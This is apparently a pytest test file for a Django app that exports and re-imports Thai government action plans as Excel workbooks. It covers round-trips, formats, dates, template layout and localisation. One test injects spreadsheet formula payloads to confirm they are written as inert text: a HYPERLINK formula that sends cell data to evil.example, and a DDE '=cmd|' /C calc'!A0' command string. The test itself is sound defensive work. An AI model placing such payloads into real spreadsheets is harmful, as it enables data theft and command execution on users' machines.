"""The export has the template's shape and re-imports unchanged; text that looks like a formula stays text."""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from demo.loader import load_demo
from emes.models import Office
from plans import services as plan_services
from plans.models import ActionPlan, Project
from plans.workbook import layout, services
from plans.workbook.reader import PlanWorkbookError
from tests.factories import ProjectFactory

from .conftest import FY, base_rows, build, plan_state, upload

pytestmark = pytest.mark.django_db


def _cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show as data_type "f"
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_the_demo_plan_round_trips():
    load_demo()
    office = Office.objects.get(area_code="5402")
    planner = office.memberships.get(role="plan_officer").user
    data = services.export_plan_workbook(office, FY)
    plan = ActionPlan.objects.current(office, FY)
    assert plan.status == ActionPlan.Status.APPROVED
    # The demo plan is approved: the preview alone compares (the upload refuses an approved plan)…
    changes = services.check_plan_workbook(data, office, FY)
    assert not changes.has_changes, [(k, [line.changes for line in v]) for k, v in changes.changed.items()]
    assert changes.unchanged["projects"] == Project.objects.filter(office=office, fiscal_year=FY).count() == 40
    assert changes.unchanged["activities"] > 0 and changes.unchanged["budget_lines"] > 0 and changes.unchanged["indicators"] > 0
    # …and after an amendment is opened, the export imports back as 0 changes and leaves the plan as it was.
    plan_services.open_amendment(plan, by=planner, reason="ทดสอบนำเข้าไฟล์แผนที่ส่งออก")
    before = plan_state()
    plan_import = services.upload_plan_workbook(office, FY, upload(data), by=planner)
    assert plan_import.summary["changes"] == 0
    services.apply_plan_import(plan_import, by=planner, fingerprint=plan_import.summary["fingerprint"])
    assert plan_state() == {**before, "imports": before["imports"] + 1}
    assert services.export_plan_workbook(office, FY) != b""  # still exportable


def test_an_export_re_imports_unchanged(office_a, planner_a, frame):
    plan_import = services.upload_plan_workbook(office_a, FY, upload(build(office_a)), by=planner_a)
    services.apply_plan_import(plan_import, by=planner_a)
    exported = services.export_plan_workbook(office_a, FY)
    changes = services.check_plan_workbook(exported, office_a, FY)
    assert not changes.has_changes
    assert dict(changes.unchanged) == {"projects": 2, "indicators": 4, "activities": 3, "budget_lines": 2}


def test_export_writes_numbers_as_numbers_and_dates_as_dates(office_a, planner_a, frame):
    plan_import = services.upload_plan_workbook(office_a, FY, upload(build(office_a)), by=planner_a)
    services.apply_plan_import(plan_import, by=planner_a)
    workbook = openpyxl.load_workbook(io.BytesIO(services.export_plan_workbook(office_a, FY)))
    projects = workbook["โครงการ"]
    assert [c.value for c in projects[1]][:3] == ["รหัสโครงการ *", "ชื่อโครงการ *", "กลยุทธ์หลัก *"]
    budget, start = projects["H2"], projects["I2"]
    assert budget.data_type == "n" and budget.value == 100000.5 and budget.number_format == "#,##0.00"
    assert start.is_date and start.value == dt.datetime(2025, 10, 1) and "107041E" in start.number_format  # shown in BE
    assert projects["A2"].value == "69-01-001" and projects["C2"].value == "กลยุทธ์ที่ 1"
    assert projects["D2"].value == "ยุทธศาสตร์ชาติด้านที่ 3, นโยบาย สพฐ. ข้อ 1"  # national, OBEC, office
    assert projects["E3"].value == "02 กลุ่มนโยบายฯ"
    activities = workbook["กิจกรรม"]
    assert [c.value for c in activities[2]][:6] == ["69-01-001", 1, "ประชุมเชิงปฏิบัติการ", None, "✓", "✓"]
    assert workbook["งบประมาณ"]["C3"].value == 20000.5


def test_text_that_looks_like_a_formula_is_written_as_text(office_a, planner_a, frame):
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "-5 ปี", "@cmd", "+66 เบอร์โทร"]
    for n, name in enumerate(names):
        ProjectFactory(office=office_a, code=f"69-99-{n:03d}", name=name, strategy=frame["s1"], division=frame["divisions"][0],
                       responsible_people="=1+1", rationale="=cmd|' /C calc'!A0")
    data = services.export_plan_workbook(office_a, FY)
    cells = list(_cells(data))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    projects = workbook["โครงการ"]
    written = {projects.cell(r, 2).value: projects.cell(r, 2) for r in range(2, 6)}
    assert set(written) == set(names)
    for name in names:
        assert written[name].data_type == "s" and written[name].quotePrefix  # shown as typed, never evaluated by Excel
    # The same text comes back unchanged through the import.
    assert not services.check_plan_workbook(data, office_a, FY).has_changes


def test_every_strategy_level_has_its_prefix_in_the_workbook():
    from plans.models import Strategy

    assert [w.value for w in layout.STRATEGY_PREFIXES] == list(Strategy.Level.values)


def test_the_template_has_the_shape_the_import_reads(office_a, planner_a, frame):
    data = services.build_plan_template(office_a, FY)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["คำอธิบาย", "โครงการ", "ตัวชี้วัด", "กิจกรรม", "งบประมาณ", "รายการ"]
    assert workbook["รายการ"].sheet_state == "hidden"
    instructions = workbook["คำอธิบาย"]
    assert (instructions["A3"].value, instructions["B3"].value, instructions["A4"].value, instructions["B4"].value) == (
        "รหัสเขตพื้นที่", "9901", "ปีงบประมาณ (พ.ศ.)", 2569)
    text = "\n".join(str(c.value) for c in instructions["B"] if c.value)
    assert "1/10/2568" in text and "บาท" in text and "ตัวอย่าง" in text and "5 MB" in text
    for spec in layout.DATA_SHEETS:
        ws = workbook[str(spec.title)]
        assert ws.freeze_panes in ("A2", "C2", "D2")
        assert ws["A2"].value == "ตัวอย่าง"  # the example row
        assert ws.max_row == 2
        assert all(ws.column_dimensions[openpyxl.utils.get_column_letter(i)].width > 5 for i in range(1, len(spec.columns) + 1))
    lists = workbook["รายการ"]
    assert [c.value for c in lists["A"][1:] if c.value] == ["01 กลุ่มอำนวยการ", "02 กลุ่มนโยบายฯ"]
    assert [c.value for c in lists["C"][1:] if c.value] == ["ยุทธศาสตร์ชาติด้านที่ 3", "นโยบาย ศธ. ข้อ 12", "นโยบาย สพฐ. ข้อ 1", "กลยุทธ์ที่ 1", "กลยุทธ์ที่ 2"]
    assert [c.value for c in lists["F"][1:] if c.value] == ["งบ สพฐ.", "งบเขตพื้นที่", "อื่น ๆ"]
    validations = {str(v.sqref): v.formula1 for v in workbook["โครงการ"].data_validations.dataValidation}
    assert validations["E2:E1001"] == "'รายการ'!$A$2:$A$3"  # divisions
    assert validations["C2:C1001"] == "'รายการ'!$C$2:$C$6"  # strategies
    assert {v.formula1 for v in workbook["ตัวชี้วัด"].data_validations.dataValidation} >= {"'รายการ'!$G$2:$G$3", "'รายการ'!$H$2:$H$4", "'รายการ'!$I$2:$I$3"}
    assert not [c.coordinate for c in _cells(data) if c.data_type == "f"]


def test_a_filled_template_imports_its_rows_and_never_the_example(office_a, planner_a, frame):
    from plans.workbook.template import example_rows, workbook_lists, write_workbook

    lists = workbook_lists(office_a, FY)
    data = write_workbook(office_a, FY, lists, base_rows(), examples=example_rows(lists, FY))
    plan_import = services.upload_plan_workbook(office_a, FY, upload(data), by=planner_a)
    assert plan_import.summary["examples"] == 4 and plan_import.summary["projects_added"] == 2
    services.apply_plan_import(plan_import, by=planner_a)
    assert sorted(Project.objects.values_list("code", flat=True)) == ["69-01-001", "69-02-001"]
    assert not Project.objects.filter(code="ตัวอย่าง").exists()


def test_be_dates_typed_as_text_and_in_a_gregorian_excel_are_read(office_a, planner_a, frame):
    rows = base_rows()
    rows.projects[1].update(start_date="1/10/2568", end_date=dt.datetime(2569, 9, 30))  # a BE year in a real date cell
    rows.projects[0].update(start_date="15 พ.ย. 68", end_date="2569-03-31")
    changes = services.check_plan_workbook(build(office_a, rows), office_a, FY)
    values = {line.key: {c.field: c.new for c in line.changes} for line in changes.added["projects"]}
    assert (values["69-02-001"]["start_date"], values["69-02-001"]["end_date"]) == ("1 ตุลาคม 2568", "30 กันยายน 2569")
    assert (values["69-01-001"]["start_date"], values["69-01-001"]["end_date"]) == ("15 พฤศจิกายน 2568", "31 มีนาคม 2569")
    with pytest.raises(PlanWorkbookError):
        rows.projects[0]["start_date"] = "2025-11-15"
        services.check_plan_workbook(build(office_a, rows), office_a, FY)


def test_codes_typed_loosely_are_understood(office_a, planner_a, frame):
    rows = base_rows()
    rows.projects[1].update(division=2, strategy="กลยุทธ์ 2", strategies="นโยบาย สพฐ. 1; 3")
    rows.indicators[1].update(direction=">=", frequency="รายปี", is_percentage="ไม่ใช่")
    rows.budget[0].update(amount="80,000", q1="๕๐,๐๐๐")
    changes = services.check_plan_workbook(build(office_a, rows), office_a, FY)
    values = {line.key: {c.field: c.new for c in line.changes} for line in changes.added["projects"]}
    assert values["69-02-001"]["division"] == "02 กลุ่มนโยบายฯ"
    assert values["69-02-001"]["strategies"] == "ยุทธศาสตร์ชาติด้านที่ 3, นโยบาย สพฐ. ข้อ 1"
    assert values["69-01-001"]["budget"] == "100,000.50"


def test_a_workbook_written_in_english_reads_back_in_thai(office_a, planner_a, frame):
    from django.utils import translation

    plan_import = services.upload_plan_workbook(office_a, FY, upload(build(office_a)), by=planner_a)
    services.apply_plan_import(plan_import, by=planner_a)
    with translation.override("en"):
        data = services.export_plan_workbook(office_a, FY)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Instructions", "Projects", "Indicators", "Activities", "Budget", "Lists"]
    assert workbook["Projects"]["C2"].value == "Strategy no. 1" and workbook["Budget"]["B2"].value == "OBEC budget"
    assert not services.check_plan_workbook(data, office_a, FY).has_changes  # read with the Thai catalog active
